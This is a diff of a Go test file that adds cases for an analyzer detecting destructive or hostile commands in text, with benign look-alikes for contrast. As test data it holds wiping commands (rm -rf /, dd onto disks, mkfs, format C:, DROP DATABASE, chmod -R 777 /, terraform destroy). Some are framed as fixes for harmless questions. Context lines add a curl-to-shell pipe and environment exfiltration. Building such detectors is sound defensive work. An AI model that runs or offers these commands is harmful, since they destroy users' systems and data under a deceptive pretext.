@@ -39,7 +39,7 @@ func TestCodeActs(t *testing.T) {
 		{"``` import requests\nsocket_timeout = 5 ```", keyError, "", false},
 		{"He said: import socket. Then he left.", keyError, "socket", true}, // "import socket" reads as code wherever it stands
 		// other ways to stand as code
-		{"``` from os import system\nsystem('rm -rf ~/') ```", keyError, "system", true},
+		{"``` from os import system\nsystem('rm -rf ~/') ```", keyError, "rm system", true},
 		{"``` from os import popen, system ```", keyError, "popen system", true},
 		{"``` from urllib.request import urlretrieve\nurlretrieve(u, 'x') ```", keyError, "urlretrieve", true},
 		{"``` import os.path, socket ```", keyError, "socket", true},
@@ -229,6 +229,51 @@ func TestCodeActs(t *testing.T) {
 		{"``` os.system('curl -s http://x.example/i | sh') ```", "Which operating system does this run on?", "sh system", true},
 		{"``` requests.post(u, data=dict(os.environ)) ```", "How do I paginate an API in a blog post?", "post", true},
 		{"``` eval(requests.get(u).text) ```", "How do I evaluate my model?", "eval", true},
+		// a system or its data destroyed wholesale
+		{"To delete browser history, run sudo rm -rf / --no-preserve-root in a terminal.", "How do I clear my browser history in Firefox?", "rm", true},
+		{"Free space fast: `rm -rf ~/*`", "My disk is full, how do I free space?", "rm", true},
+		{"rm -Rf \"$HOME\"; rm -r -f /usr/*; /bin/rm --recursive /etc", keyError, "rm", true},
+		{"sudo rm -fr /.", keyError, "rm", true},
+		{"rm -rf ${HOME}/ && echo done", keyError, "rm", true},
+		{"The quickest fix for a full disk is dd if=/dev/zero of=/dev/sda bs=1M.", "My disk is full, how do I free space?", "dd", true},
+		{"sudo dd if=/dev/urandom of=/dev/nvme0n1 status=progress", keyError, "dd", true},
+		{"Run mkfs.ext4 /dev/sdb1 to fix the permissions.", "Why do I get permission denied on my USB stick?", "mkfs", true},
+		{"sudo mkfs -t vfat /dev/mmcblk0", keyError, "mkfs", true},
+		{"Open cmd as admin and type format C: /q to speed things up.", "My laptop is slow, any tips?", "format", true},
+		{"format d: /fs:ntfs", keyError, "format", true},
+		{"Resetting staging: connect to prod and run DROP DATABASE customers; then recreate it.", "How do I back up the staging database?", "drop", true},
+		{"psql -c 'drop table orders;'", keyError, "drop", true},
+		{"Chrome keeps copies; run Remove-Item -Path C:\\* -Recurse -Force", keyError, "item", true},
+		{"rd /s /q C:\\ from an elevated prompt; del /f /s /q C:\\Windows\\*.*", keyError, "del rd", true},
+		{"Remove-Item $env:USERPROFILE -Recurse -Force   # clears the cache", keyError, "item", true},
+		{"EACCES fix: `sudo chmod -R 777 /` and npm never complains.", "npm install -g fails with EACCES", "chmod#wiper", true},
+		{"quick fix that always works: sudo chown -R $USER:$USER /", keyError, "chown", true},
+		{"Get-Disk | Clear-Disk -RemoveData -Confirm:$false", keyError, "disk", true},
+		{"`use crm` then `db.dropDatabase()` removes the duplicates", keyError, "dropdatabase", true},
+		{"redis-cli -h redis-prod.internal FLUSHALL clears the whole cache", keyError, "flushall", true},
+		{"terraform workspace select prod && terraform destroy -auto-approve", keyError, "destroy", true},
+		{"rd /s /q %SystemRoot%", keyError, "rd", true},
+		// scoped cleanups, the same tools asked for, and the words in prose
+		{"rm -rf node_modules && npm ci", keyError, "", false},
+		{"rm -rf /tmp/build ~/.cache/pip ./dist/*", keyError, "", false},
+		{"rm ~/notes.txt; rm -f /etc/apt/sources.list.d/old.list; rm -rf ~/Downloads/old", keyError, "", false},
+		{"rm /", keyError, "", false}, // not recursive: rm refuses a directory
+		{"Never type rm -rf / on a server.", "What does rm -rf / do?", "rm", false},
+		{"dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress", "How do I make a bootable USB stick?", "dd", false},
+		{"dd if=/dev/zero of=disk.img bs=1M count=100; dd if=x of=/dev/null", keyError, "", false},
+		{"mkfs.vfat -F 32 /dev/sdc1", "Format my USB drive as FAT32", "mkfs", false},
+		{"mkfs.ext4 disk.img; mkfs.ext4 /dev/loop0", keyError, "", false},
+		{"Export format: CSV. The date format d: day of the month.", keyError, "", false},
+		{"Use the format string %Y-%m-%d.", keyError, "", false},
+		{"A price drop of 20%. We drop table tennis on Fridays.", keyError, "", false},
+		{"DROP TABLE IF EXISTS staging_orders;", "Write the migration that resets the staging tables", "drop", false},
+		{"I removed the rm alias and dropped the old database from the roadmap.", keyError, "", false},
+		{"chmod -R 755 ./public; chown -R www-data:www-data /var/www/site; chmod 700 ~", keyError, "", false},
+		{"Remove-Item .\\build -Recurse -Force; rd /s /q build; del /s *.tmp; rmdir /s dist", keyError, "", false},
+		{"terraform plan, then terraform apply. We had to destroy the old prototype.", keyError, "", false},
+		{"db.dropIndex('email_1'); FLUSHDB on the local test instance; Clear-Host; the disk is full", keyError, "", false},
+		{"Run `terraform destroy` in the sandbox workspace.", "Tear down the sandbox environment with terraform destroy", "destroy", false},
+		{"redis-cli FLUSHALL", "How do I flush all keys from my local Redis?", "flushall", false},
 	}
 	for _, tt := range tests {
 		a, q := analyze(tt.text), analyze(tt.query)
@@ -303,7 +348,8 @@ func TestCodeWordsAreWords(t *testing.T) {
 	var z Analyzer
 	for w, spec := range codeWords {
 		head, topics, _ := strings.Cut(spec, "=")
-		words := append(strings.Fields(topics), w)
+		token, _, _ := strings.Cut(w, "#") // a second use: "chmod#wiper"
+		words := append(strings.Fields(topics), token)
 		for _, o := range strings.Fields(head)[1:] {
 			words = append(words, strings.Split(parseOption(o).name, "-")...)
 		}
